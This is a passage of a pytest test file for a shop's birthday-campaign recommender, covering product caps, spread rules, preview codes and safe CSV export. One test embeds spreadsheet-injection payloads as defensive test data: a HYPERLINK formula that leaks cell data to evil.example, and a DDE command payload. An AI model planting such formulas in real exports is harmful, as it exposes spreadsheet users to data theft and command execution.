    assert sorted(o.product_ids[0] for o in day1.offers) == ["P1", "P1", "P2"]
    s1 = day1.summary()
    assert s1["capped_choices"] == 1 and s1["capped_first_pick"] == {"2nd": 1, "3rd": 0, "later": 0}
    assert s1["outstanding_units"] == 0
    day2 = run(db, settings, date="2026-06-02", days_ahead=0, items=1)
    assert sorted(o.product_ids[0] for o in day2.offers) == ["P2", "P2"]  # both P1 units are still promised
    s2 = day2.summary()
    assert s2["outstanding_units"] == 3 and s2["capped_choices"] == 2 and s2["capped_first_pick"]["2nd"] == 2
    assert "capped: 2 customer(s)" in day2.human()
    assert offered_units(db) == {"P1": 2, "P2": 3}
    # Day-1 and day-2 codes end on 15 and 16 June: on 1 July nothing is outstanding any more.
    later = run(db, settings, date="2026-07-01", days_ahead=0, items=1)
    assert [o.product_ids for o in later.offers] == [["P1"]] and later.summary()["outstanding_units"] == 0


def test_max_per_product_holds_across_runs(db, settings):
    products = [(f"P{i}", f"Product {i}", "misc", 5.0, None, 0, None) for i in range(1, 7)]
    customers = [
        ("C1", "1990-06-01", None, "UTC"),
        ("C2", "1990-06-01", None, "UTC"),
        ("C3", "1990-06-01", None, "UTC"),
        ("D1", "1990-06-02", None, "UTC"),
        ("D2", "1990-06-02", None, "UTC"),
    ]
    make_shop(
        db,
        customers + shoppers(),
        products=products,
        personalization=[f"S{i}" for i in range(1, 7)],
        events=popular_events(["P1", "P2", "P3", "P4", "P5", "P6"]),
    )
    settings.campaigns.max_product_share = 1.0
    run(db, settings, date="2026-06-01", days_ahead=0, items=1, max_per_product=2)
    assert offered_units(db) == {"P1": 2, "P2": 1}
    day2 = run(db, settings, date="2026-06-02", days_ahead=0, items=1, max_per_product=2)
    # P1 is full; P2 has room for one more; the second customer of the day takes P3.
    assert offered_units(db) == {"P1": 2, "P2": 2, "P3": 1}
    assert day2.summary()["capped_first_pick"] == {"2nd": 1, "3rd": 1, "later": 0}


def test_spread_rule_keeps_one_product_out_of_most_offers(db, settings):
    products = [(f"P{i}", f"Product {i}", "misc", 5.0, None, 0, None) for i in range(1, 9)]
    customers = [(f"C{i}", f"1990-06-0{i}", None, "UTC") for i in range(1, 9)]
    make_shop(
        db,
        customers + shoppers(),
        products=products,
        personalization=[f"S{i}" for i in range(1, 7)],
        events=popular_events([f"P{i}" for i in range(1, 7)]),
    )
    settings.campaigns.max_product_share = 1.0
    crowded = run(db, settings, date="2026-06-01", days_ahead=7, items=2, dry_run=True)
    assert all(o.product_ids == ["P1", "P2"] for o in crowded.offers)  # without the rule: the same two for all
    settings.campaigns.max_product_share = 0.25  # ceil(0.25 x 8 customers) = 2 offers per product
    spread = run(db, settings, date="2026-06-01", days_ahead=7, items=2, dry_run=True)
    counts: dict[str, int] = {}
    for o in spread.offers:
        for p in o.product_ids:
            counts[p] = counts.get(p, 0) + 1
    assert counts == {f"P{i}": 2 for i in range(1, 9)} and spread.summary()["product_cap"] == 2
    assert all(len(o.product_ids) == 2 for o in spread.offers)


def test_spread_rule_gives_way_when_the_shop_has_nothing_else(db, settings):
    products = [("P1", "One", "misc", 5.0, None, 0, None), ("P2", "Two", "misc", 5.0, None, 0, None)]
    customers = [(f"C{i}", f"1990-06-0{i}", None, "UTC") for i in range(1, 9)]
    make_shop(db, customers, products=products)
    result = run(db, settings, date="2026-06-01", days_ahead=7, items=2, dry_run=True)
    assert len(result.offers) == 8 and all(sorted(o.product_ids) == ["P1", "P2"] for o in result.offers)


def test_bad_spread_setting_is_a_config_error(db, settings):
    make_shop(db, [("A", "1990-06-03", None, "UTC")])
    settings.campaigns.max_product_share = 0.0
    with pytest.raises(ConfigError, match="max_product_share"):
        run(db, settings, date="2026-06-01")


# --- exports that are safe to open and hard to misuse ------------------------------------------------------


def test_csv_cells_that_a_spreadsheet_would_evaluate_are_quoted():
    from recommender import csvsafe

    cases = {
        "=1+1": "'=1+1",
        "+41 79": "'+41 79",
        "-2": "'-2",
        "@SUM(A1)": "'@SUM(A1)",
        "\tx": "'\tx",
        "\rx": "'\rx",
        "Ann": "Ann",
        "": "",
        " =x": " =x",
        "a=b": "a=b",
    }
    assert {k: csvsafe.cell(k) for k in cases} == cases
    assert csvsafe.cell(-5) == -5 and csvsafe.cell(15.0) == 15.0 and csvsafe.cell(None) is None


def test_campaign_csv_export_neutralises_formulas(db, settings, tmp_path):
    evil = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    store.upsert_customers(db, [("A", "a@example.com", evil, "1990-06-03", None, "UTC", CREATED)])
    store.upsert_products(
        db, [("P1", "=cmd|' /C calc'!A0", "misc", 5.0, None, 0, None), ("P2", "@SUM(1+1)", "misc", 5.0, None, 0, None)]
    )
    store.set_consents(db, [("A", "marketing", True, CREATED, "test")])
    out = tmp_path / "offers.csv"
    run(db, settings, date="2026-06-01", days_ahead=7, items=1, out=out)
    with open(out, newline="", encoding="utf-8") as fh:
        row = next(csv.DictReader(fh))
    assert row["name"] == "'" + evil
    assert row["product_names"] in ("'=cmd|' /C calc'!A0", "'@SUM(1+1)")
    assert row["email"] == "a@example.com" and row["preview"] == "false"
    for value in row.values():
        assert not value.startswith(("=", "+", "-", "@", "\t", "\r"))


def test_out_is_never_overwritten_without_force_and_no_folder_is_made(db, settings, tmp_path):
    make_shop(db, [("A", "1990-06-03", None, "UTC"), ("B", "1990-06-04", None, "UTC")])
    out = tmp_path / "offers.csv"
    out.write_text("yesterday's 30 rows\n")
    with pytest.raises(ValidationError, match="already exists.*--force"):
        run(db, settings, date="2026-06-01", days_ahead=7, out=out)
    assert out.read_text() == "yesterday's 30 rows\n" and store.counts(db)["offers"] == 0
    missing = tmp_path / "no" / "such" / "offers.csv"
    with pytest.raises(ValidationError, match="does not exist"):
        run(db, settings, date="2026-06-01", days_ahead=7, out=missing)
    assert not (tmp_path / "no").exists() and store.counts(db)["offers"] == 0
    result = run(db, settings, date="2026-06-01", days_ahead=7, out=out, force=True)
    assert len(out.read_text().splitlines()) == 3 and len(result.offers) == 2
    assert [(c["path"], c["kind"]) for c in store.registered_copies(db)] == [(str(out.absolute()), "campaign_export")]


def test_a_preview_file_says_so_and_its_codes_are_not_usable(db, settings, tmp_path):
    make_shop(db, [("A", "1990-06-03", None, "UTC"), ("B", "1990-06-04", None, "UTC")])
    out = tmp_path / "preview.csv"
    result = run(db, settings, date="2026-06-01", days_ahead=7, dry_run=True, out=out)
    with open(out, newline="", encoding="utf-8") as fh:
        rows = list(csv.DictReader(fh))
    assert len(rows) == 2 and {r["preview"] for r in rows} == {"true"}
    assert all(re.fullmatch(r"PREVIEW-BDAY(-[A-Z2-7]{4}){4}", r["code"]) for r in rows)
    assert "PREVIEW" in result.human() and store.registered_copies(db) == []
    from recommender.campaigns import ledger as campaign_ledger

    with pytest.raises(ValidationError, match="preview"):
        campaign_ledger.record(db, result, None)
    assert store.counts(db)["offers"] == 0
    real = run(db, settings, date="2026-06-01", days_ahead=7)
    assert not any(o.code.startswith("PREVIEW") for o in real.offers)


def test_cli_out_needs_force_to_replace(runner, db, settings, tmp_path):
    make_shop(db, [("A", "1990-06-03", None, "UTC")])
    out = tmp_path / "offers.csv"
    out.write_text("keep me\n")
    help_text = runner.invoke(cli, ["campaign", "run", "--help"]).output
    assert "--force" in help_text and "preview" in help_text
    refused = runner.invoke(
        cli, ["campaign", "run", "--occasion", "birthday", "--date", "2026-06-01", "--out", str(out)]
    )
    assert refused.exit_code != 0 and len(refused.output.strip().splitlines()) == 1
    assert refused.output.startswith("Error:") and "--force" in refused.output and out.read_text() == "keep me\n"
    done = runner.invoke(
        cli,
        ["campaign", "run", "--occasion", "birthday", "--date", "2026-06-01", "--out", str(out), "--force", "--json"],
    )
    assert done.exit_code == 0, done.output
    assert json.loads(done.output)["offers_total"] == 1 and len(out.read_text().splitlines()) == 2


def test_cron_script_refuses_to_overwrite_without_force(db, settings, capsys, tmp_path):
    import importlib.util

    path = Path(__file__).parent.parent / "scripts" / "run_campaign.py"
    spec = importlib.util.spec_from_file_location("run_campaign", path)
    script = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(script)
    make_shop(db, [("A", "1990-06-03", None, "UTC")])
    out = tmp_path / "offers.csv"
    out.write_text("keep me\n")
    argv = ["--db", str(settings.db), "--date", "2026-06-01", "--out", str(out)]
    assert script.main(argv) == 1 and "--force" in capsys.readouterr().out
    assert script.main(argv + ["--force"]) == 0 and len(out.read_text().splitlines()) == 2
